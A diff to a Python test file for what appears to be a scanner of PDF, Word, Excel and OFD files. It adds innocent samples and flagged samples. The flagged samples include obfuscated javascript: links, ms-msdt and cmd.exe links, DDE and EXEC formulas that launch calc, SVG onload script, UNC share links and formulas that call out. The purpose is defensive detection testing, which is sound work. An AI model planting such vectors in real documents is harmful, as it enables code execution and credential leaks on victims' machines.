@@ -26,13 +26,18 @@ MACROS = WORD.replace("openxmlformats-officedocument.wordprocessingml", "ms-word
 RELS = "word/_rels/document.xml.rels"
 
 
-def workbook() -> bytes:
-    """A workbook as openpyxl writes it, with a chart and a link."""
+SVG = '<Default Extension="svg" ContentType="image/svg+xml"/>'
+
+
+def workbook(*formulas: str) -> bytes:
+    """A workbook as openpyxl writes it, with a chart, a link and these formulas."""
     book, file = Workbook(), BytesIO()
     sheet = book.create_sheet("one")
     sheet["A1"] = "批准"
     sheet["A1"].hyperlink = "https://bank.cn"
     sheet.add_chart(BarChart(), "C3")
+    for nth, formula in enumerate(formulas, 2):
+        sheet.cell(nth, 2).value = formula
     book.save(file)
     return file.getvalue()
 
@@ -124,8 +129,28 @@ INNOCENT = {
     "two saves": pdf() + pdf()[9:],
     "blanks behind": pdf(behind=b"\r\n\0\0 "),
     "a short PDF": b"%PDF-1.7 approved",
+    "links as programs write them": pdf(
+        b"<< /Type /Action /S /URI /URI (https://bank.cn/setup.exe) >>",
+        b"<</S/URI/URI(mailto:a@bank.cn)>>",
+        b"<</S/URI/URI(www.bank.com)>>",
+        b"<</S/URI/URI(file:///C:/Users/a/%E9%99%84%E4%BB%B6.docx)>>",
+        b"<</S/GoToR/F(annex.pdf)/D[0/Fit]>>",
+        b"<</URI<</Base(https://bank.cn/)>>/X(https://bank.cn/URI%20a)>>",
+        b"<</FT /Tx /F  5 0 R /UF <FEFF0061002E007000640066>>>",
+    ),
+    "many links": pdf(*(b"<</S/URI/URI(https://bank.cn/%d)>>" % nth for nth in range(3_000))),
     "Word with a picture and a link": docx(),
     "a field of Word": docx('<w:fldSimple w:instr=" PAGE "/><w:instrText>HYPERLINK "http://a.cn/dde x"</w:instrText>'),
+    "fields that take in nothing": docx(
+        '<w:fldSimple w:instr=" TOC \\o 1-3 \\h "/><w:fldSimple w:instr=" REF DATABASE1 "/>'
+        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;C:\\\\Temp\\\\ksohtml\\\\wps1.png&quot; \\* MERGEFORMATINET "/>'
+    ),
+    "links of Word to files beside it": docx(more={RELS: relation("hyperlink", "file:///C:/a/%E9%99%84%E4%BB%B6.docx", external=True)}),
+    "a link of Word without a scheme": docx(more={RELS: relation("hyperlink", "www.bank.com", external=True)}),
+    "a drawing": docx(types=SVG, more={"word/media/a.svg": '<svg xmlns="urn:s"><a href="https://bank.cn"><path d="M0 0"/></a></svg>'}),
+    "formulas": workbook('=HYPERLINK("https://bank.cn","x")', '=IF(A1="a|b!c",SUM(\'a|b\'!B1:B2),"CALL(95588)")', "=INDIRECT(A1)"),
+    "an invoice's own data in an OFD": ofd({"Attachments.xml": "<o:Attachments xmlns:o='u'><o:Attachment Name='original_invoice' Format='xml'/></o:Attachments>"}),
+    "a page of an OFD with a link": ofd({"Page.xml": "<o:Action xmlns:o='u'><o:URI URI='https://tax.cn'/></o:Action>"}),
     "Excel with a chart": workbook(),
     "Word with a chart and its workbook": docx(
         types='<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
@@ -157,6 +182,20 @@ GUILTY = {
     "unreadable: predictor": ("unreadable", pdf(stream(b"4 0 x", b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>"))),
     "unreadable: hidden dictionary": ("unreadable", pdf(stream(b"4 0 x", b"/Type/ObjStm/X(obj)/Filter/LZWDecode"))),
     "unreadable: no such compression": ("unreadable", pdf(stream(b"", packed=b"nothing"))),
+    "program: a PDF's link to a script": ("program", pdf(b"<</S/URI/URI(javascript:alert\\(1\\))>>")),
+    "program: a PDF's link in octal signs": ("program", pdf(b"<</S/URI/URI(\\152avascript:1)>>")),
+    "program: a PDF's link in digits": ("program", pdf(b"<</S/URI /URI <6A6176617363726970743A31>>>")),
+    "program: a PDF's link to a program": ("program", pdf(b"<</S/URI/URI(file:///c:/windows/system32/cmd.exe)>>")),
+    "program: a PDF's link in compressed objects": ("program", pdf(stream(b"4 0 <</S/URI/URI(ms-msdt:/id)>>"))),
+    "unreadable: a PDF's link elsewhere": ("unreadable", pdf(b"<</S/URI/URI 9 0 R>>")),
+    "unreadable: a PDF's link far from its name": ("unreadable", pdf(b"<</S/URI/URI" + b" " * 3000 + b"(javascript:1)>>")),
+    "unreadable: a remark before a PDF's link": ("unreadable", pdf(b"<</S/URI/URI%x\n(javascript:1)>>")),
+    "outside: a PDF's link to a share": ("outside", pdf(b"<</S/URI/URI(\\\\\\\\host\\\\a)>>")),
+    "outside: another PDF on a share": ("outside", pdf(b"<</S/GoToR/F<</UF(//host/share/a.pdf)>>>>")),
+    "outside: a stream that lies elsewhere": ("outside", pdf(b"<</Length 0/F(\\\\\\\\host\\\\a)>>stream\n\nendstream")),
+    "embedded: a file without its type": ("embedded", pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>")),
+    "embedded: a file without its type, elsewhere": ("embedded", pdf(b"<</Type/Filespec/F(a.exe)/EF 7 0 R>>")),
+    "excessive: links": ("excessive", pdf(b"/F(a" * 50_000)),
     "program: launched": ("program", pdf(b"<</S/Launch/F(cmd.exe)>>")),
     "embedded: a file": ("embedded", pdf(b"<</Names<</EmbeddedFiles<<>>>>>>")),
     "embedded: media": ("embedded", pdf(b"<</Subtype/RichMedia>>")),
@@ -188,6 +227,22 @@ GUILTY = {
         '<w:fldChar w:fldCharType="begin"/><w:instrText> D</w:instrText><w:instrText>&#68;E</w:instrText><w:instrText>AUTO x</w:instrText>')),
     "program: DDE in UTF-16": ("program", docx(more={"word/document.xml": '<?xml version="1.0" encoding="UTF-16"?><w:f xmlns:w="urn:w"><w:fldSimple w:instr="dde x"/></w:f>'.encode("utf-16")})),
     "program: a link": ("program", docx(more={RELS: relation("hyperlink", "ms-msdt:/id", external=True)})),
+    "program: a link to a program": ("program", docx(more={RELS: relation("hyperlink", "file:///c:/a%2eexe", external=True)})),
+    "program: a formula's link": ("program", workbook('=HYPERLINK("C:\\a\\a.exe","x")')),
+    "program: DDE in a formula": ("program", workbook("=cmd|'/c calc'!A0")),
+    "program: a formula that starts one": ("program", workbook('=1+RTD("a.b","","x")')),
+    "program: a name that starts one": ("program", docx(more={"word/names.xml": "<definedName>EXEC(&quot;calc&quot;)</definedName>"})),
+    "program: a page of an OFD": ("program", ofd({"Page.xml": "<o:Action xmlns:o='u'><o:URI URI='javascript:alert(1)'/></o:Action>"})),
+    "program: a file in an OFD": ("program", ofd({"Attachments.xml": "<o:Attachment xmlns:o='u' Name='a.vbs'><o:FileLoc>x.dat</o:FileLoc></o:Attachment>"})),
+    "script: a drawing that acts": ("script", docx(types=SVG, more={"word/media/a.svg": '<svg xmlns="urn:s" onload="a()"/>'})),
+    "program: a drawing's link": ("program", docx(types=SVG, more={"word/media/a.svg": '<svg xmlns="urn:s"><a href="java\tscript:a()"/></svg>'})),
+    "hidden: an archive behind a picture of Word": ("hidden", docx(more={"word/media/image2.png": PNG + zipped({"a.txt": b"x"})})),
+    "outside: a link to a share": ("outside", docx(more={RELS: relation("hyperlink", "\\\\host\\a", external=True)})),
+    "outside: a link to a share by slashes": ("outside", docx(more={RELS: relation("hyperlink", "file:////host/a", external=True)})),
+    "outside: a picture by a field": ("outside", docx('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://a.cn/a.png&quot; \\d "/>')),
+    "outside: a text by a field": ("outside", docx('<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\host\\\\a&quot; "/>')),
+    "outside: a field of a database": ("outside", docx('<w:instrText>x</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>DATA</w:instrText><w:instrText>BASE \\d "x"</w:instrText>')),
+    "outside: a formula that asks a page": ("outside", workbook('=_xlfn.WEBSERVICE("http://a.cn/"&A2)')),
     "outside: a template": ("outside", docx(more={RELS: relation("attachedTemplate", "https://a.cn/a.dotm", external=True)})),
     "outside: a picture": ("outside", docx(more={RELS: relation("image", "https://a.cn/a.png", external=True)})),
     "outside: another workbook": ("outside", docx(more={RELS: relation("externalLink", "externalLinks/externalLink1.xml")})),
@@ -210,6 +265,8 @@ GUILTY = {
     "macro: a sheet that says so itself": ("macro", old_workbook(macros_inside)),
     "encrypted: a whole old workbook": ("encrypted", old_workbook(behind_first(b"\x2f\0\x36\0" + bytes(54)))),
     "program: data from a running one in an old workbook": ("program", old_workbook(behind_first(supbook("cmd\x03/c calc")))),
+    "unreadable: a compound file that is no document": ("unreadable", old("__nameid_version1.0", "__substg1.0_0037001F")),
+    "embedded: a formula editor's object": ("embedded", old("WordDocument", "Equation Native")),
     "embedded: old Word": ("embedded", old("WordDocument", "ObjectPool", "\x01Ole10Native")),
     "encrypted: old Excel": ("encrypted", old("Workbook", streams=b"\x09\x08\x10\0" + bytes(16) + b"\x2f\0\x36\0")),
     "encrypted: old Word": ("encrypted", old("WordDocument", streams=b"\xec\xa5\xc1\0" + bytes(6) + b"\0\x13")),
